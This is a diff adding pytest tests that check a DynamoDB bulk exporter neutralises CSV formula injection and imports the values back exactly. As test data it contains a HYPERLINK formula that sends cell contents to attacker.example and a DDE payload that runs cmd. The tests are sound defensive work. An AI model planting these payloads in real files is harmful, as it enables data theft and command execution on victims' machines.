@@ -1,5 +1,6 @@
 """The bulk importer and exporter (tools.importer) against moto's DynamoDB."""
 
+import csv
 import io
 import itertools
 import json
@@ -971,3 +972,74 @@ def test_in_csv_a_greeting_that_renders_to_nothing_means_no_greeting_line(
     stored_records = records(on_table(slept))
     letter = render_letter(stored_records["C#TestCustomer"], stored_records["D#Plain"])
     assert letter == "Just the text."
+
+
+# CSV cells a spreadsheet would run
+
+HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Click")'
+CALC = "+cmd|' /C calc'!A0"
+
+
+def test_csv_export_neutralises_formulas_and_imports_them_back_exactly(
+    aws: AWS, run: Any, tmp_path: Path, log: io.StringIO, slept: list[float]
+) -> None:
+    run(
+        jsonl(
+            tmp_path,
+            customer("link", HYPERLINK, link=HYPERLINK),
+            customer("calc", CALC, calc=CALC),
+            customer("quoted", "'Tis", note="''twice"),
+            customer("marked", "'=not a formula"),
+            customer("minus", "-5", at="@SUM(A1)"),
+            template("Tabbed", "\tindented", greeting="\r\nDear {{ name }}", description="=1+1"),
+        )
+    )
+    exported = tmp_path / "export.csv"
+
+    export_file(exported, on_table(slept), log=log)
+
+    text = exported.read_bytes().decode("utf-8")
+    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+    assert text.splitlines(keepends=True)[1:8] == [
+        "customer,TestCustomer,Testing Customer,,,,\r\n",
+        'customer,calc,\'+cmd|\' /C calc\'!A0,,,,"{""calc"": ""+cmd|\' /C calc\'!A0""}"\r\n',
+        'customer,link,"\'=HYPERLINK(""http://attacker.example/?d=""&A1,""Click"")",,,,'
+        '"{""link"": ""=HYPERLINK(\\""http://attacker.example/?d=\\""&A1,\\""Click\\"")""}"\r\n',
+        "customer,marked,''=not a formula,,,,\r\n",
+        'customer,minus,\'-5,,,,"{""at"": ""@SUM(A1)""}"\r\n',
+        'customer,quoted,\'\'Tis,,,,"{""note"": ""\'\'twice""}"\r\n',
+        "template,Tabbed,,'\tindented,\"'\r\n",
+    ]
+    create_table(aws.dynamodb, "docgen-copy")
+    assert counts(run(exported, repository=on_table(slept, "docgen-copy"))) == (8, 8, 0, 0, 0, 0)
+    assert without_version(stored(aws, "docgen-copy")) == without_version(stored(aws))
+    assert stored(aws, "docgen-copy")["C#link"]["data"] == {"S": HYPERLINK}
+    assert stored(aws, "docgen-copy")["C#calc"]["attributes"] == {"M": {"calc": {"S": CALC}}}
+    assert stored(aws, "docgen-copy")["D#Tabbed"]["greeting"] == {"S": "\r\nDear {{ name }}"}
+    again = tmp_path / "again.csv"
+    export_file(again, on_table(slept, "docgen-copy"), log=log)
+    assert again.read_bytes() == exported.read_bytes()
+    assert log.getvalue() == ""
+
+
+def test_a_leading_quote_is_data_unless_it_marks_a_formula_or_a_quote(
+    aws: AWS, run: Any, tmp_path: Path
+) -> None:
+    path = tmp_path / "quotes.csv"
+    path.write_text(
+        "kind,id,name,text,greeting,description,attributes\r\n"
+        "customer,plain,'Tis,,,,\r\n"
+        "customer,formula,'=1+1,,,,\r\n"
+        "customer,quote,''Tis,,,,\r\n"
+        "customer,bare,=1+1,,,,\r\n",
+        encoding="utf-8",
+    )
+
+    assert counts(run(path)) == (4, 4, 0, 0, 0, 0)
+
+    names = {key: item["data"]["S"] for key, item in stored(aws).items()}
+    assert names["C#plain"] == "'Tis"
+    assert names["C#formula"] == "=1+1"
+    assert names["C#quote"] == "'Tis"
+    assert names["C#bare"] == "=1+1"  # imported as written; exported, it gets its mark
